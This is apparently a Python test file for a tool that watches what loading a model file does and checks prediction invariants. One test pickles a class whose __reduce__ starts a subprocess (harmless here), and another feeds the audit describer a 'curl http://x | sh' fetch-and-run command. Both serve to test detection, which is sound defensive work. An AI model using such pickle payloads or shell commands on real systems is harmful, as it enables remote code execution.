"""Does an examination find what loading a model does, and which invariants do not hold, and survive either?"""

from __future__ import annotations

import io
import pickle
import subprocess
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pandas as pd
import pytest

from taxiway_scoring import invariants
from taxiway_scoring.examining import MAX_BYTES, MODULE, Watch, describe, find_invariants, try_all
from taxiway_scoring.examining import _fit as fit

EXAMPLE = pd.DataFrame({"amount": [10.0, 20.0], "items": [1, 2], "country": ["DE", "FR"]})


def rising(frame: pd.DataFrame) -> Any:
    return frame["amount"].fillna(0).to_numpy() / 100


def falling(frame: pd.DataFrame) -> Any:
    return -frame["amount"].to_numpy()


def with_functions(text: str) -> ModuleType:
    module = ModuleType(MODULE)
    exec(compile(text, MODULE, "exec"), vars(module))  # noqa: S102
    return module


def test_a_pickle_that_runs_a_program_is_seen() -> None:
    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            return subprocess.call, ([sys.executable, "-c", "pass"],)

    content = pickle.dumps([Evil(), EXAMPLE])
    watch = Watch()
    watch.open()
    pickle.load(io.BytesIO(content))  # noqa: S301
    watch.close()
    pickle.loads(pickle.dumps(Path("/x")))  # noqa: S301
    packages = dict(map(tuple, watch.packages()))
    assert packages["subprocess"] == 1
    assert packages["pandas"] >= 1
    assert "pathlib" not in packages  # it was closed by then
    assert any(act.startswith(f"began a program {sys.executable}") for act in watch.acts)


@pytest.mark.parametrize(
    ("event", "arguments", "told"),
    [
        ("os.system", ("curl http://x | sh",), "began a program curl"),
        ("socket.connect", (None, ("10.0.0.1", 80)), "used the network (connect)"),
        ("os.remove", ("/data/x", -1), "deleted /data/x"),
        ("open", ("/data/x", "w", 0o1101), "wrote /data/x"),
        ("open", ("/data/x", "r", 0), None),
        ("open", ("/dev/null", "w", 0o1), None),
        ("import", ("os",), None),
    ],
)
def test_what_acts_are_told(event: str, arguments: tuple[Any, ...], told: str | None) -> None:
    assert describe(event, arguments) == told


def test_every_invariant_is_tried_and_those_that_do_not_hold_come_first() -> None:
    module = with_functions(
        "def check_it_holds(predict, example): pass\n"
        "def check_it_does_not(predict, example): raise AssertionError('row 0: it falls')\n"
        "def check_it_breaks(predict, example): example['nothing']\n"
        "def helper(predict, example): raise AssertionError\n"
    )
    found = try_all(module, rising, EXAMPLE)
    assert [(each["name"], each["holds"]) for each in found] == [
        ("it does not", False), ("it breaks", False), ("it holds", True),
    ]  # fmt: skip
    assert found[0]["message"] == "row 0: it falls"
    assert found[1]["message"].startswith("KeyError")


def test_what_does_not_fit_into_a_report_is_left_out_from_the_end() -> None:
    document = {
        "invariants": [{"name": "x", "holds": False, "message": "y" * 200}] * 100, "acts": ["z" * 200] * 20,
        "packages": [["p", 1]] * 500, "trouble": "",
    }  # fmt: skip
    fitted = fit(document)
    assert len(str(fitted)) < MAX_BYTES * 1.2
    assert fitted["invariants"]


def test_invariants_lie_in_the_models_code(tmp_path: Path) -> None:
    (tmp_path / "code").mkdir()
    metadata = {"flavors": {"python_function": {"code": "code"}}}
    assert find_invariants(tmp_path, metadata) is None
    (tmp_path / "code" / f"{MODULE}.py").write_text("")
    assert find_invariants(tmp_path, metadata) == tmp_path / "code" / f"{MODULE}.py"
    outside = {"flavors": {"python_function": {"code": f"../{tmp_path.name}/../{tmp_path.name}x"}}}
    assert find_invariants(tmp_path, outside) is None


def test_the_ready_made_ones_tell_good_from_bad() -> None:
    invariants.never_falls(rising, EXAMPLE, "amount", [1, 10, 100])
    invariants.never_rises(falling, EXAMPLE, "amount", [1, 10, 100])
    with pytest.raises(AssertionError, match="row 0: it falls where amount becomes 10"):
        invariants.never_falls(falling, EXAMPLE, "amount", [1, 10, 100])
    with pytest.raises(AssertionError, match="it rises"):
        invariants.never_rises(rising, EXAMPLE, "amount", [1, 10, 100])
    invariants.is_steady(rising, EXAMPLE, "amount", 1.0, most=0.01)
    with pytest.raises(AssertionError, match="rounding amount to 7"):
        invariants.is_steady(rising, EXAMPLE, "amount", 7.0, most=0.001)
    invariants.answers_without(rising, EXAMPLE, ["amount", "country"])
    with pytest.raises(AssertionError, match="without amount it is nan"):
        invariants.answers_without(falling, EXAMPLE, ["amount"])
    with pytest.raises(AssertionError, match="has no column"):
        invariants.never_falls(rising, EXAMPLE, "height", [1, 2])
    with pytest.raises(AssertionError, match="no input example"):
        invariants.never_falls(rising, None, "amount", [1, 2])


def test_of_several_columns_the_last_one_counts() -> None:
    def probabilities(frame: pd.DataFrame) -> Any:
        score = rising(frame)
        return pd.DataFrame({"no": 1 - score, "yes": score})

    invariants.never_falls(probabilities, EXAMPLE, "amount", [1, 10, 100])
